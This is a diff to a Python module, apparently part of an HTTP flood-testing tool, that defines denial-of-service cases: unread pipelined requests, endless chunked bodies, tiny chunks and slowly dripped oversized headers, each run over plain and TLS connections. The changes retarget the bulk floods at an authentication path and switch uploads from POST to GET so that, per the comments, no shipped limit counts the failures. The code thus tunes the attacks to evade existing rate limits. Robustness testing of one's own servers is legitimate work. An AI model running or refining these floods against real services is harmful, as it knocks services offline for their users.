@@ -9,15 +9,17 @@ from flood_swarm import FOREVER, HOST, Attack, Script, Step
 
 _HOST = b"Host: %b\r\n" % HOST.encode()
 # What is sent over and over is about so many bytes at a time.
-_BULK = 1 << 18
+BULK = 1 << 18
 # Over these each attack of HTTP/1.1 goes.
 TRANSPORTS = ("plain", "tls")
 KIB = 1024
+# Of the service that honest clients don't ask.
+BULK_PATH = b"/v1/auth"
 
 
 def over_and_over(data: bytes, first: bytes = b"") -> Script:
     """`first`, and then these bytes without an end."""
-    bulk = data * max(1, _BULK // len(data))
+    bulk = data * max(1, BULK // len(data))
     return lambda: chain([first] if first else [], repeat(bulk))
 
 
@@ -53,8 +55,9 @@ def head_of(line: bytes, size: int = 32 * KIB - 200) -> bytes:
 
 
 ELSEWHERE = request(b"/", host=b"Host: x\r\n")
-LARGE = request(b"/v1/users/60k")
-_POST = b"POST /v1/users HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % _HOST
+LARGE = request(BULK_PATH + b"/60k")
+# By GET, whose failures no shipped limit counts.
+_UPLOAD = b"GET /v1/users HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % _HOST
 CHUNK = b"5\r\nhello\r\n"
 _EXTENDED = b"1;a=b;c=d;e=f;g=h\r\nx\r\n"
 # Line by line what is repeated in heads that are dear to look at, and how the case is called.
@@ -74,30 +77,19 @@ def _each(make: Callable[[str], Attack]) -> list[Attack]:
 
 def unread() -> list[Attack]:
     """Item 1: nothing of the answers is ever read."""
-    tunnel = request(
-        fields=b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
-        b"Sec-WebSocket-Key: AAECAwQFBgcICQoLDA0ODw==\r\n"
-    )
-
-    def opened() -> Iterable[Step]:
-        yield tunnel
-        yield 0.3
-        yield from repeat(b"x" * _BULK)
-
     return [
         *_each(lambda t: Attack("unread-refused", "1", t, over_and_over(ELSEWHERE), len(ELSEWHERE), reads=False)),
         *_each(lambda t: Attack("unread-proxied", "1", t, over_and_over(LARGE), len(LARGE), reads=False)),
-        *_each(lambda t: Attack("unread-tunnel", "1", t, opened, 16 * KIB, "16 KiB", reads=False)),
     ]
 
 
 def bulk() -> list[Attack]:
     """Item 2: more work in one go than others should have to wait for."""
-    ordinary = request()
+    ordinary = request(BULK_PATH)
     return [
         *_each(lambda t: Attack("bulk-refused", "2", t, over_and_over(ELSEWHERE), len(ELSEWHERE), counted=True)),
         *_each(lambda t: Attack("bulk-limited", "2", t, over_and_over(ordinary), len(ordinary), counted=True)),
-        *_each(lambda t: Attack("bulk-chunks", "2", t, over_and_over(CHUNK, _POST), 4 * KIB, "4 KiB")),
+        *_each(lambda t: Attack("bulk-chunks", "2", t, over_and_over(CHUNK, _UPLOAD), 4 * KIB, "4 KiB")),
     ]
 
 
@@ -121,7 +113,7 @@ def dear() -> list[Attack]:
         begun = request(fields=b"X-Filler: " + b"f" * size)[:-2]
         script = dripping(begun, b"g" * 1000)
         cases += [Attack(name, "6", t, script, 1, "byte", len(begun), allowance=32 * KIB) for t in TRANSPORTS]
-    extensions = over_and_over(_EXTENDED, _POST)
+    extensions = over_and_over(_EXTENDED, _UPLOAD)
     cases += [Attack("chunk-extensions", "6", t, extensions, 4 * KIB, "4 KiB") for t in TRANSPORTS]
-    ones = over_and_over(b"1\r\nx\r\n", _POST)
+    ones = over_and_over(b"1\r\nx\r\n", _UPLOAD)
     return cases + [Attack("chunks-of-one", "6", t, ones, 4 * KIB, "4 KiB") for t in TRANSPORTS]
